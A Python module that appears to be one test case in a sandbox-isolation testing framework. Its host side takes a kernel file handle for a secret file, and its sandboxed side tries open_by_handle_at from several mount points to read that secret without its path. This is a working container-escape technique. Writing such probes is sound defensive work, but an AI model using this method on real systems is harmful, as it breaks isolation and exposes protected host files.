"""A file of the host opened by its handle instead of its name"""

import ctypes
import os

from attack import Host, Setup, tried
from attack import Trick as Base
from syscalls import call


class Trick(Base):
    area = "files"
    only_where = "only the host's root opens by handle, and not on every file system"

    def prepare(self, host: Host) -> Setup:
        folder, secret = host.dir("shown"), host.secret()
        handle, mount = ctypes.create_string_buffer(136), ctypes.c_int()
        handle[0:1] = b"\x80"
        try:
            call("name_to_handle_at", -100, str(secret).encode(), handle, ctypes.byref(mount), 0)
        except OSError as error:
            print("no handle:", error)
        setup = Setup(bytes(handle).hex(), str(folder))
        setup.read_only.append(folder)
        return setup

    def inside(self, handle: str, folder: str) -> None:
        given = ctypes.create_string_buffer(bytes.fromhex(handle))
        for place in (folder, "/usr", "/"):

            def attempt(place: str = place) -> str:
                fd = call("open_by_handle_at", os.open(place, os.O_RDONLY), given, os.O_RDONLY)
                return os.read(fd, 100).decode()

            tried(place, attempt)
